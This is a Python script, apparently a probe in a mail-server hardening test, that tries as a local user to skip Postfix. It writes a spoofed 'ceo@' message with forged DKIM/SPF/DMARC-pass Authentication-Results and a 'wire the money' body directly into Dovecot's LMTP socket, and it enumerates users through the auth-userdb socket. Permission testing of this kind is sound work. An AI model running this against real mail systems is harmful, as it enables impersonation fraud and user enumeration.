"""A local user's attempt to bypass Postfix: deliver straight into a mailbox over Dovecot's LMTP
socket (with forged Authentication-Results), or look users up on its auth-userdb socket.

Run with the system python3 by any user:
  python3 lmtp_deliver.py lmtp SOCKET RECIPIENT MESSAGE_ID
  python3 lmtp_deliver.py userdb SOCKET USER
Prints the dialogue; exit 0 when delivered (or the user was looked up), 2 on PermissionError,
1 on anything else.
"""

from __future__ import annotations

import socket
import sys


def dialogue(sock: socket.socket, lines: list[bytes], expect: bytes) -> bytes:
    f = sock.makefile("rb")
    out = b""
    for line in lines:
        sock.sendall(line)
        reply = f.readline()
        out += line + reply
        while reply[3:4] == b"-":
            reply = f.readline()
            out += reply
    return out if expect in out else out + b"\n(unexpected)"


def lmtp(path: str, rcpt: str, message_id: str) -> int:
    domain = rcpt.split("@")[1]
    message = (
        f"Authentication-Results: mail.{domain}; dkim=pass header.d={domain}; "
        f"spf=pass smtp.mailfrom={domain}; dmarc=pass header.from={domain}\r\n"
        f"From: ceo@{domain}\r\nTo: {rcpt}\r\nSubject: forged\r\nMessage-ID: {message_id}\r\n"
        "\r\nwire the money\r\n.\r\n"
    ).encode()
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(path)
        sock.makefile("rb").readline()  # greeting
        out = dialogue(
            sock,
            [b"LHLO local\r\n", f"MAIL FROM:<ceo@{domain}>\r\n".encode(),
             f"RCPT TO:<{rcpt}>\r\n".encode(), b"DATA\r\n", message, b"QUIT\r\n"],
            b"250 2.0.0 <" + rcpt.encode(),
        )  # fmt: skip
    print(out.decode(errors="replace"))
    return 1 if out.endswith(b"(unexpected)") else 0


def userdb(path: str, user: str) -> int:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(path)
        sock.sendall(f"VERSION\t1\t0\nUSER\t1\t{user}\tservice=lmtp\n".encode())
        data = b""
        while b"\nUSER\t" not in data and b"\nNOTFOUND" not in data:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
    print(data.decode(errors="replace"))
    return 0 if b"\nUSER\t1\t" in data else 1


if __name__ == "__main__":
    try:
        if sys.argv[1] == "lmtp":
            sys.exit(lmtp(sys.argv[2], sys.argv[3], sys.argv[4]))
        sys.exit(userdb(sys.argv[2], sys.argv[3]))
    except PermissionError as exc:
        print(f"PermissionError: {exc}")
        sys.exit(2)
